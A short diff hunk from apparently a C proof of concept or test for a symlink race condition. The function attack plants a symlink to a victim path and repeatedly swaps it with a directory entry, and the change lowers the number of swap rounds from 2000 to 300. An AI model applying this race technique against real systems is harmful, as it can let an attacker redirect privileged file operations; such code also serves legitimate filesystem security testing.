@@ -120,7 +120,7 @@ static void attack(int folder, int depth) {
   struct stat there;
   if (fstatat(folder, "d", &there, AT_SYMLINK_NOFOLLOW) != 0) bait(folder, "d");
   symlinkat(victim, folder, "l");
-  for (int round = 0; round < 2000; round += 1) {
+  for (int round = 0; round < 300; round += 1) {
     if (!exchange(folder, "d", "l") && !exchange(folder, "new", "l")) break;
     exchange(folder, "new", "l");
   }
